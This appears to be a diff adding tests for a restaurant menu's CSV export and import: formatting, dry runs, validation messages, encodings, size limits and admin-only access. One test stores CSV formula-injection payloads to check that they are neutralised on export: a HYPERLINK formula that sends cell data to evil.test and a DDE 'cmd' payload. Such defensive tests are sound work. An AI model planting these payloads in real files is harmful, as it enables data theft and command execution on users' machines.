@@ -1,0 +1,332 @@
+import { randomUUID } from 'node:crypto';
+import type { MenuCsvProblem, MenuImportResult } from '@bistro/contract/menu-csv';
+import { parse } from 'csv-parse/sync';
+import type { FastifyInstance } from 'fastify';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { buildTestApp, type SignedIn, signInAs } from '../../../test/helper.ts';
+
+const HEADER = 'id,name,category,price,recipe,image,allergens,diets';
+
+function multipart(file: Buffer | string, field = 'file') {
+  const boundary = '----bistro-menu-csv';
+  const head = `--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename="menu.csv"\r\nContent-Type: text/csv\r\n\r\n`;
+  return {
+    payload: Buffer.concat([Buffer.from(head), Buffer.from(file), Buffer.from(`\r\n--${boundary}--\r\n`)]),
+    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
+  };
+}
+
+describe('the menu as a CSV file', () => {
+  let app: FastifyInstance;
+  let admin: SignedIn;
+  let staff: SignedIn;
+  let diner: SignedIn;
+  beforeAll(async () => {
+    app = await buildTestApp();
+    admin = await signInAs(app, { email: 'admin@bistro.test', role: 'admin' });
+    staff = await signInAs(app, { email: 'kitchen@bistro.test', role: 'staff' });
+    diner = await signInAs(app, { email: 'diner@bistro.test' });
+  });
+  afterAll(() => app.close());
+
+  const exported = async () => {
+    const response = await app.inject({ method: 'GET', url: '/api/menu/export.csv', headers: admin.headers });
+    expect(response.statusCode).toBe(200);
+    return response.rawPayload;
+  };
+  const rowsOf = (csv: Buffer | string) =>
+    parse(Buffer.from(csv), { bom: true, columns: true }) as Record<string, string>[];
+  const publicMenu = async () => (await app.inject({ method: 'GET', url: '/api/menu' })).body;
+  const importFile = (
+    file: Buffer | string,
+    { dryRun = false, headers = admin.headers as Record<string, string>, field = 'file' } = {},
+  ) => {
+    const body = multipart(file, field);
+    return app.inject({
+      method: 'POST',
+      url: `/api/menu/import${dryRun ? '?dryRun=true' : ''}`,
+      payload: body.payload,
+      headers: { ...headers, ...body.headers },
+    });
+  };
+  const imported = async (file: Buffer | string, options: { dryRun?: boolean } = {}) => {
+    const response = await importFile(file, options);
+    expect(response.statusCode, response.body).toBe(200);
+    return response.json() as MenuImportResult;
+  };
+  const problemsOf = async (file: Buffer | string) => {
+    const response = await importFile(file);
+    expect(response.statusCode, response.body).toBe(400);
+    return (response.json() as { details: { problems: MenuCsvProblem[] } }).details.problems;
+  };
+  const addDish = async (dish: Record<string, unknown>) => {
+    const response = await app.inject({ method: 'POST', url: '/api/menu', headers: admin.headers, payload: dish });
+    expect(response.statusCode, response.body).toBe(200);
+    return response.json().insertedId as string;
+  };
+
+  it('exports every dish: UTF-8 with a BOM, CRLF, the documented columns, prices as plain decimals', async () => {
+    const id = await addDish({
+      name: 'Crème brûlée',
+      category: 'dessert',
+      price: 12.5,
+      image: '/x.webp',
+      allergens: ['milk', 'eggs'],
+      diets: ['vegetarian'],
+    });
+    const response = await app.inject({ method: 'GET', url: '/api/menu/export.csv', headers: admin.headers });
+    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(response.headers['content-disposition']).toBe('attachment; filename="menu.csv"');
+    const bytes = response.rawPayload;
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(bytes.toString('utf8').slice(1).split('\r\n')[0]).toBe(HEADER);
+    const rows = rowsOf(bytes);
+    expect(rows).toHaveLength(JSON.parse(await publicMenu()).length);
+    expect(rows.find((row) => row.id === id)).toEqual({
+      id,
+      name: 'Crème brûlée',
+      category: 'dessert',
+      price: '12.50',
+      recipe: '',
+      image: '/x.webp',
+      allergens: 'eggs|milk',
+      diets: 'vegetarian',
+    });
+  });
+
+  it('changes nothing when its own export comes back: the dry run and the import say 0 added, 0 changed', async () => {
+    const menuBefore = await publicMenu();
+    const file = await exported();
+    const dishes = rowsOf(file).length;
+    const dryRun = await imported(file, { dryRun: true });
+    expect(dryRun).toEqual({ dryRun: true, added: 0, changed: 0, unchanged: dishes, changes: [] });
+    expect(await imported(file)).toEqual({ dryRun: false, added: 0, changed: 0, unchanged: dishes, changes: [] });
+    expect(await publicMenu()).toBe(menuBefore);
+    expect((await exported()).equals(file)).toBe(true);
+  });
+
+  it('neutralises formulas in every text cell on export and takes them back exactly on import', async () => {
+    const tricky = {
+      name: '=HYPERLINK("http://evil.test/?x="&A1,"Free dessert")',
+      category: 'soup',
+      price: 7,
+      recipe: '+cmd|\' /C calc\'!A0\nline two, with "quotes"',
+      image: '@SUM(1+1)*cmd',
+      allergens: ['celery'],
+    };
+    const quoted = { ...tricky, name: "'=already quoted", recipe: "-2+3 and ''' quotes", image: "''" };
+    const ids = [await addDish(tricky), await addDish(quoted)];
+    const file = await exported();
+    const cells = ids.map((id) => rowsOf(file).find((row) => row.id === id) ?? {});
+    expect(cells.map((row) => [row.name, row.recipe, row.image])).toEqual([
+      [`'${tricky.name}`, `'${tricky.recipe}`, `'${tricky.image}`],
+      [`''=already quoted`, `'-2+3 and ''' quotes`, `'''`],
+    ]);
+    expect((await imported(file, { dryRun: true })).changed).toBe(0);
+
+    // A formula someone typed into the sheet is imported as the words it is, and guarded on the way out.
+    const typed = await imported(`name,category,price,recipe,image\r\n=SUM(A1:A2),soup,3,@risky,+img.webp\r\n`);
+    expect(typed.added).toBe(1);
+    const typedDish = (
+      JSON.parse(await publicMenu()) as { _id: string; name: string; recipe: string; image: string }[]
+    ).find((item) => item.name === '=SUM(A1:A2)');
+    expect(typedDish).toMatchObject({ recipe: '@risky', image: '+img.webp' });
+    expect(rowsOf(await exported()).find((row) => row.id === typedDish?._id)).toMatchObject({
+      name: "'=SUM(A1:A2)",
+      recipe: "'@risky",
+      image: "'+img.webp",
+    });
+
+    // The same rows without their ids are new dishes, named exactly as the originals.
+    const withoutIds = file.toString('utf8').replace(new RegExp(ids.join('|'), 'g'), '');
+    const rows = rowsOf(withoutIds).filter((row) => row.id === '');
+    const added = await imported(
+      `${HEADER}\r\n${withoutIds
+        .split('\r\n')
+        .filter((line) => line.startsWith(','))
+        .join('\r\n')}`,
+    );
+    expect(added.added).toBe(rows.length);
+    const menu = JSON.parse(await publicMenu()) as { name: string; recipe: string; image: string }[];
+    for (const dish of [tricky, quoted]) {
+      expect(menu.filter((item) => item.name === dish.name).map(({ recipe, image }) => ({ recipe, image }))).toEqual([
+        { recipe: dish.recipe, image: dish.image },
+        { recipe: dish.recipe, image: dish.image },
+      ]);
+    }
+  });
+
+  it('previews an edited file (dry run, nothing written), then adds and changes exactly those dishes', async () => {
+    const id = await addDish({ name: 'Onion soup', category: 'soup', price: 6.5, image: '/onion.webp' });
+    const newId = randomUUID();
+    const file = [
+      HEADER,
+      `${id},Onion soup,soup,6.90,Gratinated,/onion.webp,gluten|milk,`,
+      ',Pea soup,SOUP,"5,25",,/pea.webp,,vegan|vegetarian',
+      `${newId},Lentil soup,soup,5,,/lentil.webp,,`,
+    ].join('\n');
+    const menuBefore = await publicMenu();
+    const preview = await imported(file, { dryRun: true });
+    expect(preview).toMatchObject({ dryRun: true, added: 2, changed: 1 });
+    expect(preview.changes).toEqual([
+      { line: 2, action: 'change', id, name: 'Onion soup', columns: ['price', 'recipe', 'allergens'] },
+      { line: 3, action: 'add', id: null, name: 'Pea soup', columns: expect.any(Array) },
+      { line: 4, action: 'add', id: newId, name: 'Lentil soup', columns: expect.any(Array) },
+    ]);
+    expect(await publicMenu()).toBe(menuBefore);
+
+    expect(await imported(file)).toMatchObject({ dryRun: false, added: 2, changed: 1 });
+    const menu = JSON.parse(await publicMenu()) as { _id: string; name: string; price: number; diets: string[] }[];
+    expect(menu.filter((dish) => dish.name === 'Onion soup')).toMatchObject([
+      { _id: id, price: 6.9, recipe: 'Gratinated', allergens: ['gluten', 'milk'] },
+    ]);
+    expect(menu.find((dish) => dish.name === 'Pea soup')).toMatchObject({
+      price: 5.25,
+      diets: ['vegetarian', 'vegan'],
+    });
+    expect(menu.find((dish) => dish.name === 'Lentil soup')).toMatchObject({ _id: newId, price: 5 });
+    // Imported again: the dishes with an id are the same dishes; the one without is added once more.
+    expect(await imported(file, { dryRun: true })).toMatchObject({ added: 1, changed: 0, unchanged: 2 });
+  });
+
+  it('keeps what a column the file leaves out says: only the name and price change', async () => {
+    const id = await addDish({
+      name: 'Tiramisu',
+      category: 'dessert',
+      price: 8,
+      image: '/t.webp',
+      recipe: 'Mascarpone',
+      allergens: ['eggs'],
+    });
+    const result = await imported(`image,price,name,category,id\r\n/t.webp,8.50,Tiramisù,dessert,${id}\r\n`);
+    expect(result.changes).toEqual([{ line: 2, action: 'change', id, name: 'Tiramisù', columns: ['name', 'price'] }]);
+    const dish = (await app.inject({ method: 'GET', url: `/api/menu/${id}` })).json();
+    expect(dish).toMatchObject({ name: 'Tiramisù', price: 8.5, recipe: 'Mascarpone', allergens: ['eggs'] });
+  });
+
+  it('refuses a file with bad rows, naming every bad line and column, and imports none of it', async () => {
+    const id = await addDish({ name: 'Borscht', category: 'soup', price: 7, image: '/b.webp' });
+    const menuBefore = await publicMenu();
+    const file = [
+      HEADER,
+      `${id},Fine dish,soup,4.00,,/fine.webp,,`,
+      ',,pasta,$4,,/x.webp,nuts|shellfish,',
+      `,Borscht,soup,7.005,"beetroot`,
+      `and dill",/b.webp,,carnivore`,
+      'not-an-id,Soup,soup,0,,,,',
+      ',Short row,soup,4',
+      `${id},Borscht again,soup,7,,/b.webp,,`,
+    ].join('\r\n');
+    expect(await problemsOf(file)).toEqual([
+      { line: 3, column: 'name', message: 'Name is required' },
+      { line: 3, column: 'category', message: expect.stringMatching(/^Category must be one of popular, dessert/) },
+      { line: 3, column: 'price', message: 'Price must be a plain number such as 12.50, without a currency sign' },
+      { line: 3, column: 'allergens', message: expect.stringMatching(/^"shellfish" is not an allergen: use celery/) },
+      { line: 4, column: 'price', message: 'Price can have at most two decimals' },
+      { line: 4, column: 'diets', message: expect.stringMatching(/^"carnivore" is not a dietary label/) },
+      { line: 6, column: 'id', message: 'Menu item id must be a UUID' },
+      { line: 6, column: 'price', message: 'Price must be more than 0' },
+      { line: 6, column: 'image', message: 'Image is required' },
+      { line: 7, column: null, message: 'This row has 4 cells where the header has 8' },
+      { line: 8, column: 'id', message: 'Line 2 has the same id: a dish can be on one line only' },
+    ]);
+    const response = await importFile(file);
+    expect(response.json().message).toBe('Nothing was imported: 11 problems on 5 lines of the file');
+    expect(await publicMenu()).toBe(menuBefore);
+  });
+
+  it('names what is wrong with the header: an unknown, a repeated or a missing column', async () => {
+    expect(await problemsOf('Name,category,colour,name\r\n')).toEqual([
+      {
+        line: 1,
+        column: 'colour',
+        message: expect.stringMatching(/^"colour" is not a column of the menu: use id, name/),
+      },
+      { line: 1, column: 'name', message: 'The column "name" is twice' },
+      { line: 1, column: 'price', message: 'The header has no "price" column' },
+      { line: 1, column: 'image', message: 'The header has no "image" column' },
+    ]);
+    expect(await problemsOf('')).toEqual([
+      { line: 1, column: null, message: 'The file is empty: it needs a header row' },
+    ]);
+    expect((await problemsOf(`${HEADER}\n,"Open quote,soup,4,,/o.webp,,\n`))[0]).toMatchObject({
+      line: 2,
+      column: null,
+    });
+  });
+
+  it('reads a file with or without a BOM; refuses Latin-1, UTF-16 and a workbook with a clear 400', async () => {
+    const row = `${HEADER}\r\n,Café crème,drinks,3.20,,/cafe.webp,milk,\r\n`;
+    const noBom = await imported(row, { dryRun: true });
+    const withBom = await imported(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(row)]), {
+      dryRun: true,
+    });
+    expect(withBom).toEqual(noBom);
+    expect(noBom.changes).toMatchObject([{ line: 2, action: 'add', name: 'Café crème' }]);
+
+    expect(
+      await problemsOf(Buffer.from(`${HEADER}\r\n,Soup,soup,3,,/s.webp,,\r\n${row.split('\r\n')[1]}`, 'latin1')),
+    ).toEqual([
+      {
+        line: 3,
+        column: null,
+        message: expect.stringMatching(
+          /^This file is not in UTF-8 \(perhaps Latin-1 or Windows-1252\): save it .*"CSV UTF-8"/,
+        ),
+      },
+    ]);
+    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(row, 'utf16le')]);
+    expect((await problemsOf(utf16))[0]?.message).toMatch(/^This file is in UTF-16/);
+    expect((await problemsOf(Buffer.from(row, 'utf16le')))[0]?.message).toMatch(/^This file is in UTF-16/);
+    expect((await problemsOf(Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14])))[0]?.message).toMatch(/^This is a workbook/);
+  });
+
+  it('reads a file up to 5 MiB; refuses one over it with 413, and an upload in another field with 400', async () => {
+    // A name padded with spaces (trimmed on import) makes a file just under the limit.
+    const row = (padding: number) => `${HEADER}\r\n,${' '.repeat(padding)}Big soup,soup,3,,/s.webp,,\r\n`;
+    const underLimit = row(5 * 1024 * 1024 - Buffer.byteLength(row(0)));
+    expect(Buffer.byteLength(underLimit)).toBe(5 * 1024 * 1024);
+    expect(await imported(underLimit, { dryRun: true })).toMatchObject({ added: 1, changes: [{ name: 'Big soup' }] });
+
+    const big = `${HEADER}\r\n${`,Soup,soup,3,,/s.webp,,\r\n`.repeat(230_000)}`;
+    expect(Buffer.byteLength(big)).toBeGreaterThan(5 * 1024 * 1024);
+    const menuBefore = await publicMenu();
+    const response = await importFile(big);
+    expect(response.statusCode).toBe(413);
+    expect(response.json().message).toMatch(/over 5 MB/);
+    expect(await publicMenu()).toBe(menuBefore);
+    expect((await importFile(`${HEADER}\r\n`, { field: 'menu' })).statusCode).toBe(400);
+  });
+
+  it('is for administrators only: kitchen staff and diners get 403, visitors 401', async () => {
+    const menuBefore = await publicMenu();
+    const file = `${HEADER}\r\n,Sneaky soup,soup,1,,/s.webp,,\r\n`;
+    for (const [headers, status] of [
+      [staff.headers, 403],
+      [diner.headers, 403],
+      [{}, 401],
+    ] as const) {
+      expect((await app.inject({ method: 'GET', url: '/api/menu/export.csv', headers })).statusCode).toBe(status);
+      expect((await importFile(file, { headers })).statusCode).toBe(status);
+      expect((await importFile(file, { headers, dryRun: true })).statusCode).toBe(status);
+    }
+    expect(await publicMenu()).toBe(menuBefore);
+  });
+
+  it('imports 10,000 dishes in one go, well under 10 s, and exports them back unchanged', async () => {
+    const rows = Array.from(
+      { length: 10_000 },
+      (_, index) =>
+        `,Dish ${index},${index % 2 ? 'pizza' : 'salad'},${(index % 50) + 1}.25,"Recipe ${index}, with a comma",/d${index}.webp,milk|eggs,vegetarian`,
+    );
+    // Measured here: 2.6–2.8 s on PGlite and on PostgreSQL (docs/menu-csv.md).
+    const started = performance.now();
+    const result = await imported(`${HEADER}\r\n${rows.join('\r\n')}`);
+    expect(result.added).toBe(10_000);
+    expect((performance.now() - started) / 1000).toBeLessThan(10);
+
+    const file = await exported();
+    expect(rowsOf(file).length).toBeGreaterThan(10_000);
+    expect(await imported(file, { dryRun: true })).toMatchObject({ added: 0, changed: 0 });
+  });
+});
